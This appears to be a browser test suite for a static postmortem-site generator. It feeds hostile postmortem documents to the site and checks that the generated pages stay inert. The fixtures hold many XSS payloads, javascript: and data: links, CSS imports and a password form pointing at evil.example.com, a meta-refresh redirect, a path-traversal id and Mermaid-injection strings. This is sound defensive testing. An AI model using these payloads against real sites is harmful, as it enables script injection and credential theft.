import { existsSync, mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import type { Page } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { workspaceWith } from '../helpers.js';
import {
  buildSite,
  openBrowser,
  readResults,
  renderedDiagram,
  runCli,
  survivingMarkup,
  searchParams,
  serveDirectory,
  type BrowserSession,
  type StaticServer,
  type WatchedPage,
} from './harness.js';

// A postmortem is text anyone with write access to the repository wrote, and the site is served from the
// organisation's origin: nothing in a document may run, load from elsewhere, or break out of its place.

const HOSTILE = 'INC-20240301-0666';
const NEIGHBOUR = 'INC-20240201-0001';
const PIXEL = 'INC-20240302-0667';

const HOSTILE_TITLE = `Cache <b>Stampede</b> "quoted" 'single' & <img src=x onerror="window.__pwned=5"> " onmouseover="window.__pwned=6`;
const HOSTILE_TAG = `<b>tag</b>" onfocus="window.__pwned=7`;
const HOSTILE_SERVICE = `<i>svc</i>'><svg onload=window.__pwned=8>`;

/** A YAML single-quoted scalar. */
const yaml = (text: string) => `'${text.replaceAll("'", "''")}'`;

const HOSTILE_DOC = `---
id: ${HOSTILE}
title: ${yaml(HOSTILE_TITLE)}
date: 2024-03-01
severity: SEV2
status: published
authors: ["@acme-example/oncall-backend"]
tags: [cache, stampede, ${yaml(HOSTILE_TAG)}]
services: [checkout-api, ${yaml(HOSTILE_SERVICE)}]
---

# Postmortem: Cache Stampede

## Summary

The cache stampeded. <script>window.__pwned=1</script>

<img src=x onerror="window.__pwned=2">

Links: [click](javascript:window.__pwned=3), [click2](JaVaScRiPt:window.__pwned=10), <a href="javascript&colon;window.__pwned=11">click3</a>, [data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xNDwvc2NyaXB0Pg==).

<iframe src="https://evil.example.com"></iframe>

<a href="#" onclick="window.__pwned=4">x</a>

<svg><script>window.__pwned=12</script></svg>

<details open ontoggle="window.__pwned=13"><summary>details</summary>toggled</details>

<style>@import url("https://evil.example.com/x.css"); body { background: url("https://evil.example.com/bg.png"); }</style>

<div style="background-image: url(https://evil.example.com/inline.png); width: 50px; height: 50px">styled</div>

<object data="https://evil.example.com/x.swf"></object><embed src="https://evil.example.com/e.swf">

<form action="https://evil.example.com/steal"><input name="password"><button>go</button></form>

<meta http-equiv="refresh" content="1;url=https://evil.example.com/">

<base href="https://evil.example.com/">

Inline code \`<script>window.__pwned=15</script>\` is text.

\`\`\`html
<script>window.__pwned=16</script>
\`\`\`

## Timeline

| Time (UTC) | Event | Significance |
|------------|-------|--------------|
| 10:00 | <img src=x onerror="window.__pwned=17"> cache flushed | First sign |
| 10:05 | Alert fires | Detection |
| 10:30 | Cache warmed | Mitigation applied |
| 10:40 | Latency normal | Impact ends |

## Root Cause Analysis

### Primary Root Cause

A cache flush at peak sent every request to the database.

### Contributing Factors

| Factor | Category | Preventable |
|--------|----------|-------------|
| <img src=x onerror="window.__pwned=18"> No request coalescing | technology | ✓ |
| Quotes " and ' and \`backticks\` and %%{init: {"securityLevel": "loose"}}%% | process | ✓ |
| Brackets ((round)) [square] {curly} ::: classDef x fill:red; click x call alert(1) | people | ✗ |
| Newline \\n and a trailing backslash \\ | environment | ✓ |

## Action Items

| ID | Type | Description | Owner | Priority | Due |
|----|------|-------------|-------|----------|-----|
| AI-001 | prevent | <img src=x onerror="window.__pwned=19"> Coalesce cache misses | @acme-example/platform | P1 | 2024-03-15 |
| AI-002 | detect | [Alert](javascript:window.__pwned=20) on cache hit ratio | @acme-example/sre | P2 | 2024-03-20 |
`;

const NEIGHBOUR_DOC = `---
id: ${NEIGHBOUR}
title: Checkout Cache Misses After Deploy
date: 2024-02-01
severity: SEV3
status: published
authors: ["@acme-example/oncall-backend"]
tags: [cache, stampede, deployment]
services: [checkout-api]
---

# Postmortem: Checkout Cache Misses After Deploy

## Summary

A deploy emptied the checkout cache; latency rose for 20 minutes.

## Root Cause Analysis

### Primary Root Cause

The deploy restarted every cache node at once.

### Contributing Factors

| Factor | Category | Preventable |
|--------|----------|-------------|
| All nodes restarted together | process | ✓ |
| No cache warm-up | technology | ✓ |

## Action Items

| ID | Type | Description | Owner | Priority | Due |
|----|------|-------------|-------|----------|-----|
| AI-001 | prevent | Restart cache nodes one at a time | @acme-example/platform | P1 | 2024-02-15 |
`;

const PIXEL_DOC = `---
id: ${PIXEL}
title: Graphs Embedded From A Dashboard Host
date: 2024-03-02
severity: SEV4
status: published
authors: ["@acme-example/oncall-backend"]
tags: [dashboards]
services: [grafana]
---

# Postmortem: Graphs Embedded From A Dashboard Host

## Summary

The latency graph, as an image on another host:

![latency graph](https://evil.example.com/pixel.png)

<img src="https://evil.example.com/raw-pixel.png" alt="raw">
`;

let session: BrowserSession;
let workspace: string;
let server: StaticServer;
const opened: WatchedPage[] = [];

beforeAll(async () => {
  workspace = workspaceWith(
    {
      '.postmortemrc.yml': 'extends: recommended\n',
      'postmortems/2024-03-01-hostile.md': HOSTILE_DOC,
      'postmortems/2024-02-01-neighbour.md': NEIGHBOUR_DOC,
      'postmortems/2024-03-02-pixel.md': PIXEL_DOC,
    },
    'pm-site-hostile-',
  );
  await buildSite(workspace, '_site');
  server = await serveDirectory(join(workspace, '_site'));
  session = await openBrowser();
});

afterAll(async () => {
  await session?.close();
  await server?.close();
  if (workspace) rmSync(workspace, { recursive: true, force: true });
});

afterEach(async () => {
  const pages = opened.splice(0);
  const problems: string[] = [];
  for (const watched of pages) {
    if (!watched.page.isClosed()) {
      await watched.settled().catch((error: unknown) => problems.push(String(error)));
      await watched.page.close();
    }
    problems.push(...watched.problems());
  }
  expect(problems, 'problems on the pages this test opened').toEqual([]);
});

async function open(path: string, target = server): Promise<WatchedPage> {
  const watched = await session.newPage(target.origin);
  opened.push(watched);
  await watched.page.goto(`${target.root}${path}`);
  return watched;
}

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);
const pause = (ms: number) => new Promise((done) => setTimeout(done, ms));

/** Clicks each link whose text is one of `texts` as a person would (or, if it cannot be clicked where it is, as a script would), coming back if it navigated. */
async function clickLinks(page: Page, texts: string[]): Promise<string[]> {
  const clicked: string[] = [];
  const home = page.url();
  for (const text of texts) {
    const links = await page.$$('a');
    for (const link of links) {
      if ((await link.evaluate((element) => element.textContent?.trim())) !== text) continue;
      clicked.push(text);
      try {
        await link.click();
      } catch {
        await link.evaluate((element) => (element as HTMLElement).click());
      }
      await pause(200);
      if (page.url().split('#')[0] !== home.split('#')[0]) await page.goto(home);
      break;
    }
  }
  return clicked;
}

describe('a postmortem full of markup, scripts and links to elsewhere', () => {
  it('its page loads, runs none of it, and holds none of it as markup, even after its links are clicked and its elements hovered and focused', async () => {
    const { page } = await open(`incidents/${HOSTILE}.html`);
    await page.waitForSelector('h1');
    await pause(1_500); // a meta refresh (1 s), onerror of broken images, ontoggle
    expect(await pwned(page)).toBeUndefined();
    expect(await survivingMarkup(page)).toEqual([]);

    const h1 = await page.$eval('h1', (element) => element.textContent ?? '');
    expect(h1).toContain('Stampede');
    expect(h1).toContain('"quoted"');

    const clicked = await clickLinks(page, ['click', 'click2', 'click3', 'x', 'data', 'Alert']);
    expect(await pwned(page), `after clicking ${clicked.join(', ')}`).toBeUndefined();
    await page.hover('h1');
    for (let n = 0; n < 40; n++) await page.keyboard.press('Tab');
    await pause(200);
    expect(await pwned(page)).toBeUndefined();
    expect(page.url().split('#')[0]).toBe(`${server.root}incidents/${HOSTILE}.html`);
  });

  it('its fishbone is still drawn, with markup and Mermaid syntax in the factors', async () => {
    const { page } = await open(`incidents/${HOSTILE}.html`);
    await page.waitForSelector('section#fishbone svg', { timeout: 30_000 });
    const diagram = await renderedDiagram(page, 'section#fishbone svg');
    expect(diagram).toMatchObject({ kind: 'ishikawa', error: false });
    const labels = diagram.labels.join('\n');
    expect(labels).toContain('Quotes');
    expect(labels).toContain('Brackets');
    expect(await pwned(page)).toBeUndefined();
    expect(await survivingMarkup(page)).toEqual([]);
  });

  it('the home page shows its title, tag and service as text', async () => {
    const { page } = await open('index.html');
    await page.waitForFunction(() => /\d/.test(document.querySelector('p#result-count')?.textContent ?? ''));
    const results = await readResults(page);
    expect(results.map((result) => result.id)).toContain(HOSTILE);
    expect(results.find((result) => result.id === HOSTILE)?.title).toContain('Stampede');
    const options = await page.evaluate(() => ({
      tag: [...document.querySelectorAll<HTMLOptionElement>('select#tag option')].map((option) => option.value),
      service: [...document.querySelectorAll<HTMLOptionElement>('select#service option')].map((option) => option.value),
    }));
    expect(options.tag).toContain(HOSTILE_TAG);
    expect(options.service).toContain(HOSTILE_SERVICE);
    await page.hover(`ol#results > li.result[data-id="${HOSTILE}"] a.result-title`);
    await pause(300);
    expect(await pwned(page)).toBeUndefined();
    expect(await survivingMarkup(page)).toEqual([]);

    // Filtering by the tag puts it in the URL; the URL, loaded again, selects it and runs nothing.
    await page.select('#tag', HOSTILE_TAG);
    await expect.poll(async () => (await readResults(page)).map((result) => result.id), { timeout: 5_000 }).toEqual([HOSTILE]);
    await expect.poll(async () => (await searchParams(page)).tag, { timeout: 5_000 }).toBe(HOSTILE_TAG);
    await page.reload();
    await expect.poll(() => page.$eval('#tag', (select) => (select as HTMLSelectElement).value), { timeout: 5_000 }).toBe(HOSTILE_TAG);
    expect(await pwned(page)).toBeUndefined();
  });

  it('the patterns, action items and insights pages show its title, items, tag and service as text', async () => {
    for (const path of ['patterns.html', 'action-items.html', 'insights.html']) {
      const { page } = await open(path);
      await page.waitForSelector('h1');
      for (const link of await page.$$('main a')) await link.hover().catch(() => undefined);
      await pause(300);
      expect(await pwned(page), path).toBeUndefined();
      expect(await survivingMarkup(page), path).toEqual([]);
      const text = await page.evaluate(() => document.querySelector('main')?.textContent ?? '');
      if (path === 'action-items.html') {
        expect(text).toContain('<img src=x onerror="window.__pwned=19"> Coalesce cache misses');
        expect(text).toContain('Alert on cache hit ratio');
      }
      if (path === 'insights.html') {
        expect(text).toContain(HOSTILE_TAG);
        expect(text).toContain(HOSTILE_SERVICE);
        // Its tag, ranked, opens the home page filtered by it: the value as text, nothing run.
        await Promise.all([page.waitForNavigation(), page.$$eval('#top-tags a', (links, tag) => (links.find((link) => link.textContent === tag) as HTMLElement).click(), HOSTILE_TAG)]);
        await expect.poll(() => page.$eval('#tag', (select) => (select as HTMLSelectElement).value), { timeout: 5_000 }).toBe(HOSTILE_TAG);
        expect(await pwned(page)).toBeUndefined();
        expect(await survivingMarkup(page)).toEqual([]);
      }
    }
  });

  it('markup in a shared URL or typed in the search box runs nothing', async () => {
    const query = `<img src=x onerror="window.__pwned=21">`;
    const params = new URLSearchParams({ q: query, tag: `"><svg onload=window.__pwned=22>`, severity: `<script>window.__pwned=23</script>`, year: `'><img src=x onerror=window.__pwned=24>` });
    const { page } = await open(`index.html?${params}`);
    await page.waitForFunction(() => /\d/.test(document.querySelector('p#result-count')?.textContent ?? ''));
    await expect.poll(() => page.$eval('#q', (input) => (input as HTMLInputElement).value), { timeout: 5_000 }).toBe(query);
    await pause(300);
    expect(await pwned(page)).toBeUndefined();
    expect(await survivingMarkup(page)).toEqual([]);
    expect(await page.$$eval('img[onerror], svg[onload]', (found) => found.length)).toBe(0);

    const typed = await open('index.html');
    await typed.page.waitForSelector('#q');
    await typed.page.type('#q', `"><img src=x onerror=window.__pwned=25>`);
    await pause(500);
    expect(await pwned(typed.page)).toBeUndefined();
    expect(await typed.page.$$eval('img[onerror]', (found) => found.length)).toBe(0);
  });

  it('an incident related to it lists its title as text', async () => {
    const { page } = await open(`incidents/${NEIGHBOUR}.html`);
    await page.waitForSelector('section#related');
    const related = await page.$$eval('section#related li', (items) => items.map((item) => ({ href: item.querySelector('a')?.getAttribute('href') ?? '', text: item.textContent ?? '' })));
    const hostile = related.find((item) => item.href.endsWith(`${HOSTILE}.html`));
    expect(hostile?.text).toContain('Stampede');
    await page.hover(`section#related a[href$="${HOSTILE}.html"]`);
    await pause(300);
    expect(await pwned(page)).toBeUndefined();
    expect(await survivingMarkup(page)).toEqual([]);
  });

  it('an image on another host, in a document, is not fetched ("nothing is fetched from outside the site")', async () => {
    const watched = await open(`incidents/${PIXEL}.html`);
    await watched.page.waitForSelector('h1');
    await watched.settled();
    expect(watched.blockedRequests).toEqual([]);
    // The page's Content-Security-Policy refusing such an image is the site working as meant: not a problem here.
    const refusals = watched.consoleErrors.filter((text) => /Content Security Policy/.test(text) && text.includes('evil.example.com'));
    watched.consoleErrors.splice(0, watched.consoleErrors.length, ...watched.consoleErrors.filter((text) => !refusals.includes(text)));
  });
});

describe('ids that are not ids', () => {
  it('an id with ../ writes nothing outside --out, and an id with markup runs nothing: the build refuses them or makes them inert', async () => {
    const top = workspaceWith({}, 'pm-site-ids-');
    const root = join(top, 'workspace');
    mkdirSync(root);
    const doc = (id: string, title: string) => `---
id: ${yaml(id)}
title: ${title}
date: 2024-03-05
severity: SEV3
status: published
authors: ["@acme-example/oncall-backend"]
tags: [cache]
---

# Postmortem: ${title}

## Summary

Text.
`;
    const files = {
      '.postmortemrc.yml': 'extends: recommended\n',
      'postmortems/2024-03-05-escape.md': doc('../../escaped-by-id', 'Escaping Id'),
      'postmortems/2024-03-06-markup.md': doc(`INC-1"><img src=x onerror="window.__pwned=30">`, 'Markup Id'),
      'postmortems/2024-03-07-fine.md': doc('INC-20240307-0001', 'A Fine Id'),
    };
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(join(root, path, '..'), { recursive: true });
      writeFileSync(join(root, path), text);
    }
    try {
      const run = await runCli(['site', '--out', '_site'], root);
      const outside = (dir: string): string[] =>
        readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
          const path = join(dir, entry.name);
          if (path === join(root, '_site')) return [];
          if (entry.isDirectory()) return outside(path);
          return [relative(top, path)];
        });
      expect(outside(top).sort(), 'files the build wrote outside --out').toEqual(Object.keys(files).map((path) => join('workspace', path)).sort());
      expect(existsSync(join(tmpdir(), 'escaped-by-id.html'))).toBe(false);
      expect(run.stderr).not.toMatch(/\n\s+at /);
      if (run.code !== 0) return; // refused, with a message and without a stack trace: fine

      const site = await serveDirectory(join(root, '_site'));
      try {
        const { page } = await open('index.html', site);
        await page.waitForFunction(() => /\d/.test(document.querySelector('p#result-count')?.textContent ?? ''));
        await pause(300);
        expect(await pwned(page)).toBeUndefined();
        expect(await survivingMarkup(page)).toEqual([]);
        expect((await readResults(page)).map((result) => result.id)).toContain('INC-20240307-0001');
      } finally {
        await site.close();
      }
    } finally {
      rmSync(top, { recursive: true, force: true });
    }
  });
});
